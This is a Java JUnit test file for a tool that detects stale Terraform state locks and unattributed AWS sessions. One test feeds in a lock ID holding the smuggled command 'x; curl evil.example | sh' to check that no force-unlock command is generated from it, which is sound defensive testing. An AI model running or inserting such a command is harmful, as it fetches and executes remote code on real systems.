package io.statetrail.service.sweep;

import static io.statetrail.core.fixture.Acme.APPLY_ROLE;
import static io.statetrail.core.fixture.Acme.BUCKET;
import static io.statetrail.core.fixture.Acme.MAIN;
import static io.statetrail.core.fixture.Acme.POLICY;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.statetrail.core.finding.Finding;
import io.statetrail.core.fixture.Credentials;
import io.statetrail.core.fixture.Rec;
import io.statetrail.core.fixture.Scenario;
import io.statetrail.service.alert.Delivery;
import io.statetrail.service.finding.Settle;
import io.statetrail.service.ingest.IngestResult;
import io.statetrail.service.ingest.Ingestor;
import io.statetrail.service.memory.InMemoryAuditStore;
import io.statetrail.service.memory.InMemoryLockProbe;
import io.statetrail.service.memory.InMemoryTrailLookup;
import io.statetrail.service.memory.TestClock;
import io.statetrail.service.query.LockDetails;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * The sweeper's decisions on the in-memory store, lock probe and CloudTrail lookup, in milliseconds: when a lock is
 * stale (as it stood one settle window ago), what the probe's answer makes of it, when reminders go out, what a late
 * release resolves, and when a session with no issuing event is looked up and raised. Over DynamoDB Local the sweeper is
 * tested again in store-dynamodb.
 */
class SweeperDecisionsTest {

    static final String NETWORK = BUCKET + "/infra/network/terraform.tfstate";
    static final Duration REMIND = Duration.ofHours(4);
    static final Duration GRACE = Duration.ofMinutes(15);
    static final LockDetails BODY = new LockDetails("4f6c3a52-9b0e-4c7e-8a55-0d2c61b0a7e1", "OperationTypeApply", "runner@fv-az1204-231",
            "1.10.5", "2026-11-04T10:00:01.123Z", NETWORK);

    final TestClock clock = new TestClock(Instant.parse("2026-11-04T10:05:00Z"));
    final InMemoryAuditStore store = new InMemoryAuditStore(clock);
    final InMemoryLockProbe locks = new InMemoryLockProbe();
    final InMemoryTrailLookup trail = new InMemoryTrailLookup();
    final Ingestor ingestor = new Ingestor(store, POLICY, List.of("slack", "sns"), clock, Settle.DEFAULT);
    final Sweeper sweeper = new Sweeper(store, POLICY, locks, trail, List.of("slack", "sns"), REMIND, GRACE, Settle.DEFAULT);

    /** A job that takes the S3 lock of a state (stale after one hour) at 10:00:01 and writes; its release is returned. */
    Rec lockTakenAndNotYetReleased() {
        Scenario s = new Scenario().at("2026-11-04T10:00:00Z");
        Credentials job = s.login(MAIN, APPLY_ROLE);
        job.lock(BUCKET, "infra/network/terraform.tfstate");
        job.write(BUCKET, "infra/network/terraform.tfstate");
        s.after(Duration.ofHours(5));
        Rec release = job.unlock(BUCKET, "infra/network/terraform.tfstate");
        s.records().stream().filter(r -> r != release).forEach(this::ingest);
        return release;
    }

    void ingest(Rec r) {
        IngestResult result = ingestor.ingest("test:" + r.eventId(), r.eventBridge());
        assertNull(result.failure());
    }

    Sweeper.SweepResult sweepAt(String time) {
        clock.set(Instant.parse(time));
        return sweeper.sweep(clock.instant());
    }

    List<Finding> stale() {
        return store.findings().stream().filter(f -> f.type().equals("stale-lock")).toList();
    }

    List<String> queued(String notice) {
        return store.findings().stream().flatMap(f -> store.deliveriesOf(f.id()).stream())
                .filter(d -> d.notice().equals(notice)).map(Delivery::destination).sorted().toList();
    }

    @Test
    void aLockIsJudgedAsItStoodOneSettleWindowAgoSoAReleaseOnItsWayNeverMakesItStale() {
        lockTakenAndNotYetReleased();
        locks.hold(NETWORK, "s3", BODY);

        // 70 minutes old now, but 55 minutes one window ago: a release made before then may still arrive.
        Sweeper.SweepResult r = sweepAt("2026-11-04T11:10:01Z");

        assertEquals(0, r.locksChecked());
        assertEquals(List.of(), locks.probed(), "nothing to verify yet");
        assertEquals(List.of(), stale());
    }

    @Test
    void aStaleLockThatIsStillHeldIsRaisedVerifiedWithItsBodyForEveryDestination() {
        lockTakenAndNotYetReleased();
        locks.hold(NETWORK, "s3", BODY);

        Sweeper.SweepResult r = sweepAt("2026-11-04T11:20:00Z");

        assertEquals(1, r.staleRaised());
        assertEquals(List.of(NETWORK + " s3 222222222222 eu-west-1"), locks.probed());
        Finding f = stale().get(0);
        assertEquals("true", f.details().get("verified"));
        assertEquals(BODY.id(), f.details().get("lockId"));
        assertEquals(BODY.who(), f.details().get("lockWho"));
        assertEquals(List.of("slack", "sns"), queued("raised"));
        assertEquals(0, sweepAt("2026-11-04T11:25:00Z").staleRaised(), "raised once");
    }

    @Test
    void aStaleLockSaysWhetherItIsSafeToForceUnlock_withTheExactCommandFromTheLockBody() {
        lockTakenAndNotYetReleased();
        locks.hold(NETWORK, "s3", BODY);

        sweepAt("2026-11-04T11:20:00Z");

        Finding f = stale().get(0);
        // Judged at 11:05: the job's one-hour credentials expired at 11:00 and it made no call since.
        assertEquals("holder-ended", f.details().get("verdict"));
        assertEquals("true", f.details().get("holderEnded"));
        assertEquals("true", f.details().get("wroteStateAfterLock"), "it wrote the state after taking the lock");
        assertEquals("terraform force-unlock " + BODY.id(), f.details().get("forceUnlock"));
    }

    @Test
    void aLockBodyWhoseIdIsNotTerraformsGivesNoCommand() {
        lockTakenAndNotYetReleased();
        locks.hold(NETWORK, "s3", new LockDetails("x; curl evil.example | sh", BODY.operation(), BODY.who(), BODY.version(),
                BODY.created(), BODY.path()));

        sweepAt("2026-11-04T11:20:00Z");

        Finding f = stale().get(0);
        assertEquals("x; curl evil.example | sh", f.details().get("lockId"), "shown as read, escaped by each sink");
        assertNull(f.details().get("forceUnlock"));
    }

    @Test
    void aStaleLockWhoseStoreCannotBeReachedIsRaisedAndSaysItIsNotVerified() {
        lockTakenAndNotYetReleased();
        locks.unreachable("s3", "AccessDenied on the reader role");

        Sweeper.SweepResult r = sweepAt("2026-11-04T11:20:00Z");

        assertEquals(1, r.staleRaised());
        assertEquals(1, r.unverified());
        Finding f = stale().get(0);
        assertEquals("false", f.details().get("verified"));
        assertTrue(f.summary().contains("not verified: AccessDenied on the reader role"), f.summary());
    }

    @Test
    void aStaleLockAlreadyGoneFromItsStoreRaisesNothingItsReleaseNeverReachedUs() {
        lockTakenAndNotYetReleased();

        Sweeper.SweepResult r = sweepAt("2026-11-04T11:20:00Z");

        assertEquals(1, r.locksChecked());
        assertEquals(0, r.staleRaised());
        assertEquals(List.of(), stale());
        assertEquals(0, sweepAt("2026-11-04T12:20:00Z").locksChecked(), "and it is not looked at again");
    }

    @Test
    void aSuppressedStaleLockIsRaisedAndStoredButNeitherPagedNorRemindedNorResolvedToAnyone() {
        io.statetrail.core.policy.Policy suppressing = io.statetrail.core.policy.PolicyLoader.parse(io.statetrail.core.fixture.Acme.POLICY_YAML
                + """
                suppressions:
                  - type: stale-lock
                    state: "acme-tfstate-prod/infra/network/*"
                    reason: the network apply runs for hours
                """, "policy.yaml", java.time.LocalDate.parse("2026-11-01"));
        Sweeper quiet = new Sweeper(store, suppressing, locks, trail, List.of("slack", "sns"), REMIND, GRACE, Settle.DEFAULT);
        Rec release = lockTakenAndNotYetReleased();
        locks.hold(NETWORK, "s3", BODY);

        clock.set(Instant.parse("2026-11-04T11:20:00Z"));
        assertEquals(1, quiet.sweep(clock.instant()).staleRaised());
        assertTrue(stale().get(0).suppressed(), "stored, marked");
        clock.set(Instant.parse("2026-11-04T15:20:00Z"));
        assertEquals(0, quiet.sweep(clock.instant()).reminders(), "a reminder to nobody is not counted");
        ingest(release);
        locks.release(NETWORK, "s3");
        clock.set(Instant.parse("2026-11-04T15:30:00Z"));
        quiet.sweep(clock.instant());

        assertEquals(List.of(), store.deliveriesOf(stale().get(0).id()), "no page, reminder or resolution queued");
    }

    @Test
    void aLockStillHeldIsRemindedOfOncePerIntervalToEveryDestination() {
        lockTakenAndNotYetReleased();
        locks.hold(NETWORK, "s3", BODY);
        sweepAt("2026-11-04T11:20:00Z");

        assertEquals(0, sweepAt("2026-11-04T15:19:59Z").reminders(), "within the interval");
        assertEquals(1, sweepAt("2026-11-04T15:20:00Z").reminders());
        assertEquals(List.of("slack", "sns"), queued("reminder-1"));
        assertEquals(0, sweepAt("2026-11-04T15:30:00Z").reminders());
        assertEquals(1, sweepAt("2026-11-04T19:20:00Z").reminders());
        assertEquals(List.of("slack", "sns"), queued("reminder-2"));
    }

    @Test
    void aReleaseArrivingAfterThePageResolvesItWithANoticeOnce() {
        Rec release = lockTakenAndNotYetReleased();
        locks.hold(NETWORK, "s3", BODY);
        sweepAt("2026-11-04T11:20:00Z");

        clock.set(Instant.parse("2026-11-04T15:10:00Z"));
        ingest(release);
        locks.release(NETWORK, "s3");
        Sweeper.SweepResult r = sweepAt("2026-11-04T15:11:00Z");

        assertEquals(1, r.resolved());
        assertEquals(0, r.reminders());
        assertEquals(List.of("slack", "sns"), queued("resolved"));
        assertEquals(0, sweepAt("2026-11-04T20:00:00Z").resolved(), "resolved once");
        assertEquals(0, sweepAt("2026-11-04T20:00:00Z").reminders(), "and no more reminders");
    }

    // ---- sessions without an issuing event ----

    /** A session whose login never reached us reads state at 10:00:00. */
    Credentials sessionWithoutItsLogin() {
        Scenario s = new Scenario().at("2026-11-04T10:00:00Z");
        Credentials ghost = s.sessionNeverSeen(APPLY_ROLE, "GitHubActions",
                "arn:aws:iam::222222222222:oidc-provider/token.actions.githubusercontent.com");
        ghost.read(BUCKET, "infra/network/terraform.tfstate");
        s.records().forEach(this::ingest);
        return ghost;
    }

    @Test
    void aSessionWithoutItsIssuingEventIsLookedUpAfterTheGraceAndRaisedWhenCloudTrailHasNoneEither() {
        Credentials ghost = sessionWithoutItsLogin();

        assertEquals(0, sweepAt("2026-11-04T10:14:00Z").lookedUp(), "its login may still arrive");
        assertEquals(0, trail.lookups());
        Sweeper.SweepResult r = sweepAt("2026-11-04T10:16:00Z");

        assertEquals(1, r.lookedUp());
        assertEquals(1, r.unattributedRaised());
        Finding f = store.findings().stream().filter(x -> x.type().equals("unattributed-session")).findFirst().orElseThrow();
        assertEquals(ghost.key(), f.accessKeyId());
        assertEquals(0, sweepAt("2026-11-04T10:30:00Z").lookedUp(), "looked up once");
    }

    @Test
    void aSessionWhoseIssuingEventCloudTrailStillHoldsIsTracedAndRaisesNothing() {
        Credentials ghost = sessionWithoutItsLogin();
        Rec login = Rec.assumeRoleWithWebIdentity(MAIN, APPLY_ROLE, ghost.key()).at("2026-11-04T09:59:58Z")
                .eventId("5d1c8a2e-3b7f-4e90-9a61-2f0c4d8b7e13");
        trail.holds(ghost.key(), login.time(), login.json());

        Sweeper.SweepResult r = sweepAt("2026-11-04T10:16:00Z");

        assertEquals(1, r.lookedUp());
        assertEquals(0, r.unattributedRaised());
        assertTrue(store.findings().stream().noneMatch(x -> x.type().equals("unattributed-session")), store.findings().toString());
        assertEquals(MAIN, store.sessionEvents(List.of(ghost.key())).get(ghost.key()).stream()
                .filter(e -> e instanceof io.statetrail.core.event.RoleAssumed).map(e -> ((io.statetrail.core.event.RoleAssumed) e)
                        .webIdentity().subject().raw()).findFirst().orElseThrow(), "its login is stored: the session is traced");
    }
}
